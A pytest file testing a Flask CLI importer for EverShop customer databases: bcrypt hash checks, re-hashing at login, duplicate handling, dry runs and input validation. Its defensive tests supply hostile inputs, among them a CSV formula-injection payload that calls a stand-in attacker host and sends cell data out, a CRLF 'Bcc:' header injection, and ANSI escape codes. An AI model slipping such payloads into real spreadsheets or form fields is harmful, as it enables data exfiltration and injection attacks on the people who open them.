"""``flask customers import-evershop``: EverShop-shaped databases of each era (HEAD and
rc.3 on PostgreSQL, rc.2 on MariaDB) with real bcrypt hashes, imported through Flask's
CLI runner; then those customers log in with the passwords they had, are re-hashed, and
their tokens work.
"""

from __future__ import annotations

import csv
import logging
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result
from flask import Flask

from flask_evershop_customer import evershop_hashes
from flask_evershop_customer.passwords import PasswordHasher

from .conftest import CHEAP_HASH, AppFactory, fresh_database, state_of, table_contents
from .evershop_source import ERAS, Source, bcryptjs_hash

PASSWORD = "correct horse battery"
TAGGED = "my <b>bold</b> password"
ADDRESS = {
    "full_name": "Alice Example",
    "address_1": "1600 Amphitheatre Parkway",
    "postcode": "94043",
    "city": "Mountain View",
    "telephone": "(650) 253-0000",
    "country": "US",
    "province": "US-CA",
}


@pytest.fixture
def source_factory(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    """``source_factory(era)``: an empty EverShop database of that era."""
    stack: list[Any] = []

    def make(era: str) -> Source:
        manager = fresh_database(ERAS[era], tmp_path_factory)
        url = manager.__enter__()
        stack.append(manager)
        source = Source(era, url)
        stack.append(source)
        return source

    yield make
    for item in reversed(stack):
        if isinstance(item, Source):
            item.dispose()
        else:
            item.__exit__(None, None, None)


def run_import(app: Flask, source: Source, tmp_path: Path, *args: str) -> Result:
    report = tmp_path / "report.csv"
    return app.test_cli_runner().invoke(
        args=["customers", "import-evershop", source.url, "--report", str(report), *args]
    )


def report_rows(tmp_path: Path) -> list[dict[str, str]]:
    with (tmp_path / "report.csv").open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def login(app: Flask, email: str, password: str) -> Any:
    client = app.test_client(use_cookies=False)
    return client.post("/api/customers/sessions", json={"email": email, "password": password})


def stored_hash(app: Flask, email: str) -> str:
    [row] = [r for r in table_contents(app)["evershop_customer"] if r["email"] == email]
    return str(row["password_hash"])


@pytest.mark.parametrize("era", sorted(ERAS))
def test_customers_log_in_with_their_evershop_passwords(
    app: Flask, source_factory: Any, tmp_path: Path, era: str
) -> None:
    source = source_factory(era)
    created = datetime(2024, 5, 1, 12, 30, tzinfo=timezone(timedelta(hours=7)))
    alice = source.customer("alice@example.com", created_at=created)
    source.customer("bob@example.com", TAGGED, full_name="Bob Example")
    source.customer("carol@example.com", status=0)
    source.address("alice@example.com", **ADDRESS, is_default=True)
    source.address("alice@example.com", **{**ADDRESS, "country": "United States"})

    result = run_import(app, source, tmp_path)
    assert result.exit_code == 0, result.output
    assert (
        "Imported 3 customers and 1 addresses; 0 updated, 0 already here; skipped 0 customers"
        " and 1 addresses" in result.output
    )
    [skipped] = report_rows(tmp_path)
    assert skipped["table"] == "customer_address"
    assert skipped["reason"] == "/country must be an ISO 3166-1 alpha-2 code"

    customers = {row["email"]: row for row in table_contents(app)["evershop_customer"]}
    row = customers["alice@example.com"]
    assert row["uuid"] == alice.replace("-", "")
    assert row["full_name"] == "Alice Example" and row["status"] == 1
    if era != "rc2":  # rc.2's TIMESTAMP columns were written in the server's zone
        assert row["created_at"] == datetime(2024, 5, 1, 5, 30)
    assert customers["bob@example.com"]["full_name"] == "Bob Example"
    assert row["password_hash"].startswith("$2a$04$")

    # The old passwords work, once, and the hash becomes the configured method's.
    response = login(app, "alice@example.com", PASSWORD)
    assert response.status_code == 200, response.get_json()
    method = state_of(app).settings.password_hash_method
    assert stored_hash(app, "alice@example.com").startswith(method + "$")
    token = response.get_json()["data"]["token"]
    headers = {"Authorization": f"Bearer {token}"}
    client = app.test_client(use_cookies=False)
    # Clients that stored EverShop's dashed ids keep working.
    dashed = f"/api/customers/{alice if '-' in alice else _dash(alice)}"
    assert client.get(dashed, headers=headers).get_json()["data"]["uuid"] == row["uuid"]
    addresses = client.get("/api/customers/me/addresses", headers=headers).get_json()["data"]
    [address] = addresses["items"]
    assert (address["telephone"], address["is_default"]) == ("+16502530000", True)
    assert login(app, "alice@example.com", PASSWORD).status_code == 200  # the new hash
    # EverShop escaped tag-like text before hashing it.
    assert login(app, "bob@example.com", TAGGED).status_code == 200
    assert login(app, "carol@example.com", PASSWORD).status_code == 400  # disabled
    assert login(app, "alice@example.com", "wrong password").status_code == 400


def _dash(hex32: str) -> str:
    return f"{hex32[:8]}-{hex32[8:12]}-{hex32[12:16]}-{hex32[16:20]}-{hex32[20:]}"


def test_a_second_run_skips_what_is_here_and_update_refreshes_it(
    app: Flask, source_factory: Any, tmp_path: Path
) -> None:
    source = source_factory("head")
    source.customer("alice@example.com")
    assert run_import(app, source, tmp_path).exit_code == 0
    again = run_import(app, source, tmp_path)
    assert "Imported 0 customers and 0 addresses; 0 updated, 1 already here" in again.output
    assert login(app, "alice@example.com", PASSWORD).status_code == 200  # re-hashed here
    with source.engine.begin() as connection:
        connection.exec_driver_sql("UPDATE customer SET full_name = 'Alice Renamed'")
        connection.exec_driver_sql(
            f"UPDATE customer SET password = '{bcryptjs_hash('an older password')}'"
        )
    updated = run_import(app, source, tmp_path, "--update")
    assert "0 customers and 0 addresses; 1 updated" in updated.output
    [row] = table_contents(app)["evershop_customer"]
    assert row["full_name"] == "Alice Renamed"
    # The password set (or upgraded) here is kept: EverShop's older hash does not come back.
    assert login(app, "alice@example.com", PASSWORD).status_code == 200


def test_update_takes_a_new_evershop_password_and_ends_the_sessions(
    app: Flask, source_factory: Any, tmp_path: Path
) -> None:
    source = source_factory("head")
    source.customer("alice@example.com")
    run_import(app, source, tmp_path)
    # Not logged in here yet, so the hash is still EverShop's; then its password changes.
    with source.engine.begin() as connection:
        connection.exec_driver_sql(
            f"UPDATE customer SET password = '{bcryptjs_hash('a new password here')}'"
        )
    with app.app_context():
        session = state_of(app).sessions.open_session(
            table_contents(app)["evershop_customer"][0]["uuid"]
        )
    run_import(app, source, tmp_path, "--update")
    assert login(app, "alice@example.com", PASSWORD).status_code == 400
    assert login(app, "alice@example.com", "a new password here").status_code == 200
    sessions = {r["sid"]: r for r in table_contents(app)["evershop_customer_session"]}
    assert sessions[session.sid]["revoked_at"] is not None


def test_emails_that_are_one_are_skipped_and_reported_never_merged(
    app_factory: AppFactory, source_factory: Any, tmp_path: Path
) -> None:
    app = app_factory()
    source = source_factory("head")
    first = source.customer("Dave@Example.com")
    second = source.customer("dave@example.com")
    source.customer("not an email")
    source.customer("erin@example.com")
    # A customer registered in the new shop already holds Erin's email.
    client = app.test_client(use_cookies=False)
    body = {"email": "ERIN@example.com", "password": "a password of hers", "full_name": "Erin"}
    assert client.post("/api/customers", json=body).status_code == 200
    result = run_import(app, source, tmp_path)
    assert "Imported 0 customers" in result.output and "skipped 4 customers" in result.output
    reasons = {row["uuid"]: row["reason"] for row in report_rows(tmp_path)}
    assert "letter case" in reasons[first.replace("-", "")]
    assert "letter case" in reasons[second.replace("-", "")]
    assert any(reason == "email is not a valid address" for reason in reasons.values())
    assert any(reason.startswith("email is already used here") for reason in reasons.values())
    assert [r["email"] for r in table_contents(app)["evershop_customer"]] == ["ERIN@example.com"]


def test_a_dry_run_writes_nothing(app: Flask, source_factory: Any, tmp_path: Path) -> None:
    source = source_factory("head")
    source.customer("alice@example.com")
    source.address("alice@example.com", **ADDRESS)
    result = run_import(app, source, tmp_path, "--dry-run")
    assert result.exit_code == 0, result.output
    assert "Dry run, nothing written. Would import 1 customers and 1 addresses" in result.output
    assert table_contents(app)["evershop_customer"] == []


def test_an_interrupted_run_resumes_cleanly(
    app: Flask, source_factory: Any, tmp_path: Path
) -> None:
    source = source_factory("head")
    for number in range(5):
        source.customer(f"customer{number}@example.com")

    def interrupt(_done: int) -> None:
        raise KeyboardInterrupt

    with app.app_context(), pytest.raises(KeyboardInterrupt):
        state_of(app).importer.run(source.url, batch_size=2, progress=interrupt)
    assert len(table_contents(app)["evershop_customer"]) == 2  # the first batch committed
    result = run_import(app, source, tmp_path, "--batch-size", "2")
    assert "Imported 3 customers and 0 addresses; 0 updated, 2 already here" in result.output
    assert len(table_contents(app)["evershop_customer"]) == 5


def test_an_unreadable_source_is_one_line_without_its_password(app: Flask, tmp_path: Path) -> None:
    url = "postgresql+psycopg://shop:s3cret-pw@127.0.0.1:1/nowhere"
    result = app.test_cli_runner().invoke(args=["customers", "import-evershop", url])
    assert result.exit_code == 1
    assert "cannot read the EverShop database at postgresql+psycopg://shop:***@" in result.output
    assert "s3cret-pw" not in result.output and "Traceback" not in result.output
    other = app.test_cli_runner().invoke(args=["customers", "import-evershop", "nonsense"])
    assert other.exit_code == 1 and "not a database URL" in other.output


def test_without_the_bcrypt_package_such_a_login_fails_plainly_and_says_why(
    app: Flask,
    source_factory: Any,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    source = source_factory("head")
    source.customer("alice@example.com")
    run_import(app, source, tmp_path)
    monkeypatch.setattr(evershop_hashes, "_bcrypt", lambda: None)
    with caplog.at_level(logging.ERROR, logger="flask_evershop_customer.evershop_hashes"):
        response = login(app, "alice@example.com", PASSWORD)
    assert response.get_json() == {"error": {"status": 400, "message": "Invalid email or password"}}
    assert evershop_hashes.INSTALL_HINT in caplog.text


# -- bcrypt as bcryptjs ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("password", "also"),
    [
        ("x" * 72, ["x" * 72 + "anything after the 72nd byte"]),  # bcryptjs reads 72 bytes
        ("é" * 40, ["é" * 36]),  # 80 UTF-8 bytes: the first 72 count
        (TAGGED, []),
    ],
)
def test_bcrypt_hashes_are_checked_as_bcryptjs_made_them(password: str, also: list[str]) -> None:
    stored = bcryptjs_hash(password)
    assert evershop_hashes.is_bcrypt_hash(stored)
    for candidate in [password, *also]:
        assert evershop_hashes.check_bcrypt(stored, candidate)
    assert not evershop_hashes.check_bcrypt(stored, "!" + password[1:])
    assert not evershop_hashes.check_bcrypt(stored, "\x00" + password)


def test_escape_tags_matches_evershop() -> None:
    assert evershop_hashes.escape_tags("a <b>c</b> <a href='x'>d") == (
        "a &lt;b&gt;c&lt;/b&gt; &lt;a href='x'&gt;d"
    )
    assert evershop_hashes.escape_tags("1 < 2 and 3 > 2 <3 <-> <>") == "1 < 2 and 3 > 2 <3 <-> <>"


def test_dashed_ids_name_the_same_customer_and_address(
    api: Any, client: Any, alice: dict[str, Any], alice_login: Any
) -> None:
    """EverShop's dashed uuids (lowercase, as PostgreSQL writes them), as clients that
    stored them send them, in every path that names a customer or an address; an ETag of
    the plain form matches too."""
    dashed = _dash(alice["uuid"])
    admin = api.admin_headers()
    # Other forms stay malformed, as before: 404.
    assert client.get(f"/api/customers/{dashed.upper()}", headers=admin).status_code == 404
    response = client.get(f"/api/customers/{dashed}", headers=admin)
    assert response.get_json()["data"]["uuid"] == alice["uuid"]
    etag = response.headers["ETag"]
    renamed = client.patch(
        f"/api/customers/{dashed}", json={"full_name": "Ann"}, headers={**admin, "If-Match": etag}
    )
    assert renamed.status_code == 200
    created = client.post(
        f"/api/customers/{dashed}/addresses", json={**ADDRESS, "country": "us"}, headers=admin
    ).get_json()["data"]
    address_url = f"/api/customers/me/addresses/{_dash(created['uuid'])}"
    changed = client.patch(address_url, json={"city": "Palo Alto"}, headers=alice_login.headers)
    assert changed.get_json()["data"]["uuid"] == created["uuid"]
    assert client.delete(address_url, headers=alice_login.headers).status_code == 200


def test_update_never_lets_a_customer_disabled_here_back_in(
    app: Flask, source_factory: Any, tmp_path: Path
) -> None:
    source = source_factory("head")
    source.customer("alice@example.com")
    run_import(app, source, tmp_path)
    [row] = table_contents(app)["evershop_customer"]
    client = app.test_client(use_cookies=False)
    with app.app_context():
        admin = state_of(app).admin_sessions.open("ops")
    disabled = client.patch(
        f"/api/customers/{row['uuid']}", json={"status": 0}, headers={"Cookie": f"asid={admin}"}
    )
    assert disabled.status_code == 200
    run_import(app, source, tmp_path, "--update")
    assert table_contents(app)["evershop_customer"][0]["status"] == 0


def test_a_dry_run_counts_addresses_as_the_real_run_would(
    app: Flask, source_factory: Any, tmp_path: Path
) -> None:
    source = source_factory("head")
    source.customer("alice@example.com")
    source.address("alice@example.com", **ADDRESS)
    run_import(app, source, tmp_path)
    dry = run_import(app, source, tmp_path, "--update", "--dry-run")
    assert "Would import 0 customers and 0 addresses; 1 updated" in dry.output
    source.address("alice@example.com", **{**ADDRESS, "city": "Palo Alto"})
    dry = run_import(app, source, tmp_path, "--update", "--dry-run")
    assert "Would import 0 customers and 1 addresses; 1 updated" in dry.output
    real = run_import(app, source, tmp_path, "--update")
    assert "Imported 0 customers and 1 addresses; 1 updated" in real.output


def test_a_password_longer_than_bcrypt_reads_is_not_stored_at_login(
    app: Flask, source_factory: Any, tmp_path: Path
) -> None:
    """bcrypt checked only its first 72 bytes: the rest may be mistyped, so the login
    succeeds (as on EverShop) but does not store that password; the EverShop hash stays."""
    long_password = "a long passphrase, " * 5  # 95 bytes
    source = source_factory("head")
    source.customer("alice@example.com", long_password)
    run_import(app, source, tmp_path)
    mistyped = long_password[:72] + "typo"
    assert login(app, "alice@example.com", mistyped).status_code == 200
    assert stored_hash(app, "alice@example.com").startswith("$2a$")
    short = source_factory("head")
    short.customer("bob@example.com")
    run_import(app, short, tmp_path)
    assert login(app, "bob@example.com", PASSWORD).status_code == 200
    assert not stored_hash(app, "bob@example.com").startswith("$2a$")


@pytest.mark.parametrize("batch_size", ["1000", "1"])
def test_one_uuid_in_both_forms_imports_the_first_row_and_reports_the_second(
    app: Flask, source_factory: Any, tmp_path: Path, batch_size: str
) -> None:
    """rc.2 kept uuids as text: one written dashed and once as 32 hex characters is one
    uuid here. The first row keeps it; the second is reported, dry or not, and the rest
    of the batch is imported."""
    source = source_factory("rc2")
    dashed = _dash(source.customer("alice@example.com"))
    twin = source.customer("bob@example.com", uuid=dashed)
    source.customer("carol@example.com")
    for args in (["--dry-run"], []):
        result = run_import(app, source, tmp_path, "--batch-size", batch_size, *args)
        assert result.exit_code == 0, result.output
        assert result.exception is None
        assert "2 customers and 0 addresses; 0 updated, 0 already here; skipped 1" in (
            result.output
        )
        [skipped] = report_rows(tmp_path)
        assert (skipped["uuid"], skipped["email"]) == (twin.replace("-", ""), "bob@example.com")
        assert "uuid is the same as customer" in skipped["reason"]
    emails = sorted(row["email"] for row in table_contents(app)["evershop_customer"])
    assert emails == ["alice@example.com", "carol@example.com"]


def _with_cost(cost: str, stored: str | None = None) -> str:
    """A well-formed bcrypt hash of ``cost`` (two digits), made from a cost-4 one."""
    return (stored or bcryptjs_hash(PASSWORD)).replace("$04$", f"${cost}$", 1)


def test_only_hashes_of_evershops_costs_are_imported(
    app: Flask, source_factory: Any, tmp_path: Path
) -> None:
    """EverShop wrote costs 4 to 14 (10 by default); a hash of another cost (a cost-31
    login would hold a worker for days) or a malformed one is reported, not imported."""
    source = source_factory("head")
    accepted = {"cost4@example.com": "04", "cost14@example.com": "14"}
    refused = {"cost3@example.com": "03", "cost15@example.com": "15", "cost31@example.com": "31"}
    for email, cost in {**accepted, **refused}.items():
        source.customer(email, password_hash=_with_cost(cost))
    good = bcryptjs_hash(PASSWORD)
    salt_end = len("$2a$04$") + 21  # the salt's last character carries 4 unused bits
    source.customer("salt@example.com", password_hash=good[:salt_end] + "z" + good[salt_end + 1 :])
    result = run_import(app, source, tmp_path)
    assert "Imported 2 customers" in result.output, result.output
    reasons = {row["email"]: row["reason"] for row in report_rows(tmp_path)}
    for email, cost in refused.items():
        assert reasons[email].startswith(f"password is a bcrypt hash of cost {int(cost)},")
        assert "outside EverShop's 4 to 14" in reasons[email]
    assert reasons["salt@example.com"].startswith("password is not a bcrypt hash")
    assert sorted(r["email"] for r in table_contents(app)["evershop_customer"]) == sorted(accepted)


class _NoHashing:
    """A bcrypt module that fails the test if asked to hash."""

    @staticmethod
    def checkpw(_password: bytes, _hashed: bytes) -> bool:
        raise AssertionError("a hash of a cost EverShop never wrote was checked")


@pytest.mark.parametrize("cost", ["03", "15", "31", "99"])
def test_a_stored_hash_of_another_cost_fails_the_login_unchecked(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture, cost: str
) -> None:
    monkeypatch.setattr(evershop_hashes, "_bcrypt", lambda: _NoHashing)
    stored = _with_cost(cost)
    with caplog.at_level(logging.WARNING, logger="flask_evershop_customer.evershop_hashes"):
        assert not PasswordHasher(CHEAP_HASH).verify(stored, PASSWORD)
    assert f"cost {int(cost)}, outside EverShop's 4 to 14" in caplog.text


@pytest.mark.parametrize(
    ("sent", "real"),
    [
        ("x" * 72, "x" * 72 + " and the rest"),
        ("é" * 36, "é" * 40),  # 72 UTF-8 bytes of 80
        ("<b>" + "x" * 67, "<b>" + "x" * 67 + "more"),  # 70 bytes sent, 76 as EverShop escaped
    ],
)
def test_a_password_of_the_72_bytes_bcrypt_read_logs_in_and_keeps_the_hash(
    app: Flask, source_factory: Any, tmp_path: Path, sent: str, real: str
) -> None:
    """bcryptjs read 72 bytes: a password of exactly that many may be the prefix of the
    real, longer one. It logs in (as on EverShop) but is not stored, so the real one
    still logs in afterwards."""
    source = source_factory("head")
    source.customer("alice@example.com", real)
    run_import(app, source, tmp_path)
    assert login(app, "alice@example.com", sent).status_code == 200
    assert stored_hash(app, "alice@example.com").startswith("$2a$")
    assert login(app, "alice@example.com", real).status_code == 200


def test_no_report_cell_is_a_formula(app: Flask, source_factory: Any, tmp_path: Path) -> None:
    """Cells from source data that a spreadsheet would take for a formula start with a
    quote (OWASP's advice); the others are as they were."""
    source = source_factory("rc2")
    emails = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\tx", "\rx"]
    for email in emails:
        source.customer(email)
    source.customer("plain@example.com", uuid="=1+2")
    result = run_import(app, source, tmp_path)
    assert result.exit_code == 0, result.output
    rows = report_rows(tmp_path)
    assert sorted(row["email"] for row in rows) == sorted(
        ["'" + email for email in emails] + ["plain@example.com"]
    )
    [bad_uuid] = [row for row in rows if row["email"] == "plain@example.com"]
    assert bad_uuid["uuid"] == "'=1+2"
    assert bad_uuid["reason"] == "uuid '=1+2' is not a UUID"


def test_names_and_address_lines_follow_the_apis_rules(
    app: Flask, source_factory: Any, tmp_path: Path
) -> None:
    """A name the API would refuse (empty or null, over 255 characters, CR/LF, ESC, BEL)
    is reported naming the field, and its customer skipped; an address line the API
    would refuse skips that address, not its customer."""
    source = source_factory("head")
    names = {
        "null@example.com": None,
        "empty@example.com": "",
        "crlf@example.com": "Alice\r\nBcc: everyone",
        "esc@example.com": "Alice \x1b[2J",
        "bel@example.com": "Alice\x07",
        "long@example.com": "a" * 256,
    }
    for email, name in names.items():
        source.customer(email, full_name=name)
    source.customer("alice@example.com", full_name="Zoë d'Ávila-Łukasz 李")
    source.address("alice@example.com", **ADDRESS)
    broken = {
        source.address("alice@example.com", **{**ADDRESS, "city": "Mountain\nView"}): "/city",
        source.address("alice@example.com", **{**ADDRESS, "full_name": "\x1b[1mA"}): "/full_name",
        source.address("alice@example.com", **{**ADDRESS, "address_2": "Suite\x07"}): "/address_2",
    }
    result = run_import(app, source, tmp_path)
    assert "Imported 1 customers and 1 addresses" in result.output, result.output
    rows = report_rows(tmp_path)
    reasons = {row["email"]: row["reason"] for row in rows if row["table"] == "customer"}
    assert sorted(reasons) == sorted(names)
    assert all(reason.startswith("/full_name ") for reason in reasons.values())
    assert reasons["empty@example.com"] == "/full_name must NOT have fewer than 1 characters"
    assert reasons["long@example.com"] == "/full_name must NOT have more than 255 characters"
    for email in ("crlf@example.com", "esc@example.com", "bel@example.com"):
        assert reasons[email] == "/full_name must not contain control characters"
    addresses = {row["uuid"]: row["reason"] for row in rows if row["table"] != "customer"}
    assert {uuid.replace("-", ""): field for uuid, field in broken.items()} == {
        uuid: reason.partition(" ")[0] for uuid, reason in addresses.items()
    }
    [customer] = table_contents(app)["evershop_customer"]
    assert customer["full_name"] == "Zoë d'Ávila-Łukasz 李"


@pytest.mark.parametrize("args", [["--update"], [], ["--update", "--dry-run"]])
def test_a_customer_registered_here_is_never_refreshed_by_the_import(
    app: Flask, source_factory: Any, tmp_path: Path, args: list[str]
) -> None:
    """A source row naming the uuid of a customer registered here (with that customer's
    email or another) is reported and skipped: only customers the import wrote are
    refreshed, or counted as already here."""
    client = app.test_client(use_cookies=False)
    registered = {}
    for email in ("erin@example.com", "frank@example.com"):
        body = {"email": email, "password": "a password of theirs", "full_name": "Here"}
        registered[email] = client.post("/api/customers", json=body).get_json()["data"]["uuid"]
    source = source_factory("head")
    source.customer("erin@example.com", uuid=_dash(registered["erin@example.com"]))
    source.customer("mallory@example.com", uuid=_dash(registered["frank@example.com"]))
    before = table_contents(app)["evershop_customer"]
    result = run_import(app, source, tmp_path, *args)
    assert "0 customers and 0 addresses; 0 updated, 0 already here; skipped 2" in result.output
    reasons = {row["uuid"]: row["reason"] for row in report_rows(tmp_path)}
    assert reasons == dict.fromkeys(
        registered.values(), "uuid is already used here by a customer who was not imported"
    )
    assert table_contents(app)["evershop_customer"] == before
    assert login(app, "frank@example.com", "a password of theirs").status_code == 200
